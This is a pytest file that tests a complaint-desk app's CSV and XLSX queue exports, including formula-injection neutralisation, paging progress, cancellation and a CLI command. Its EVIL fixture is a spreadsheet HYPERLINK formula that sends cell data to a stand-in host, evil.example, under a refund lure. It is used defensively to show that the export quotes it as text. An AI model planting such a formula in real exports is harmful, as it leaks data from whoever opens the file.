"""Queue exports: the rows a person sees, page by page, safe to open in a spreadsheet."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from complaintdesk.app import Backend
from complaintdesk.services.context import ServiceContext
from complaintdesk.services.insight import exports, queues
from complaintdesk.services.insight.exports import ExportCancelled, ExportFormat
from complaintdesk.services.read_models import QueueKind, QueueRequest, SortKey
from tests.services.insight.test_dashboard import _at
from tests.support.report_factory import Facts, add

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")'


@pytest.fixture
def queue(backend: Backend, admin_ctx: ServiceContext) -> QueueRequest:
    """Seven open complaints, one of whose subject is a spreadsheet formula."""
    add(backend.uow, *(Facts(_at(day), subject=f"Parcel {day} never came") for day in range(1, 7)))
    add(backend.uow, Facts(_at(7), subject=EVIL))
    return QueueRequest(QueueKind.ALL_OPEN, SortKey.RECEIVED)


def _queue_rows(ctx: ServiceContext, request: QueueRequest) -> list[list[str]]:
    page = queues.page(ctx, request)
    return [[r.reference, r.subject, r.customer_name, r.channel.value] for r in page.rows]


def test_csv_holds_the_queue_rows_with_formulas_neutralised(
    queue: QueueRequest, admin_ctx: ServiceContext, tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    monkeypatch.setattr(exports, "EXPORT_PAGE", 2)  # several pages, as a large queue has
    seen: list[tuple[int, int]] = []

    written = exports.export_queue(
        admin_ctx, queue, tmp_path / "queue.csv", progress=lambda d, t: seen.append((d, t))
    )

    assert written.rows == 7
    assert written.format is ExportFormat.CSV
    with (tmp_path / "queue.csv").open(newline="", encoding="utf-8-sig") as handle:
        lines = list(csv.reader(handle))
    assert lines[0][:4] == ["Reference", "Subject", "Customer", "Channel"]
    expected = _queue_rows(admin_ctx, queue)
    expected[-1][1] = "'" + EVIL  # shown as text by a spreadsheet, never evaluated
    assert [line[:4] for line in lines[1:]] == expected
    assert seen[-1] == (7, 7)
    assert len(seen) == 4  # 2 + 2 + 2 + 1


def test_xlsx_holds_the_same_rows_as_text_and_dates(
    queue: QueueRequest, admin_ctx: ServiceContext, tmp_path: Path
) -> None:
    written = exports.export_queue(admin_ctx, queue, tmp_path / "queue.xlsx")

    assert written.format is ExportFormat.XLSX
    sheet = load_workbook(tmp_path / "queue.xlsx").worksheets[0]
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    assert rows[0][:4] == ["Reference", "Subject", "Customer", "Channel"]
    expected = _queue_rows(admin_ctx, queue)
    expected[-1][1] = "'" + EVIL
    assert [row[:4] for row in rows[1:]] == expected
    evil_cell = sheet.cell(row=8, column=2)
    assert evil_cell.data_type == "s"  # a string cell, not a formula
    page = queues.page(admin_ctx, queue)
    assert rows[1][8] == page.rows[0].received_at.replace(tzinfo=None)  # a real date (UTC)


def test_every_dangerous_start_is_quoted() -> None:
    for text in ("=1+1", "+33 6 12", "-2", "@SUM(A1)", "\tx", "\rx"):
        assert exports.neutralised(text) == "'" + text
    assert exports.neutralised("Refund of 12 €") == "Refund of 12 €"
    assert exports.neutralised(42) == 42


def test_a_cancelled_export_leaves_no_file(
    queue: QueueRequest, admin_ctx: ServiceContext, tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    monkeypatch.setattr(exports, "EXPORT_PAGE", 2)
    pages: list[int] = []
    (tmp_path / "out").mkdir()

    with pytest.raises(ExportCancelled):
        exports.export_queue(
            admin_ctx,
            queue,
            tmp_path / "out" / "queue.xlsx",
            progress=lambda done, _total: pages.append(done),
            cancelled=lambda: len(pages) >= 1,
        )

    assert list((tmp_path / "out").iterdir()) == []


def test_the_queue_command_writes_the_queue(
    queue: QueueRequest,
    database_url: str,
    tmp_path: Path,
    cli_sign_in: Any,
) -> None:
    cli_sign_in(database_url)
    from complaintdesk import cli

    out = tmp_path / "open.xlsx"
    code = cli.run(["report", "queue", "--queue", "all_open", "--out", str(out),
                    "--database", database_url, "--json"])  # fmt: skip

    assert code == 0
    sheet = load_workbook(out).worksheets[0]
    assert sheet.max_row == 1 + 7
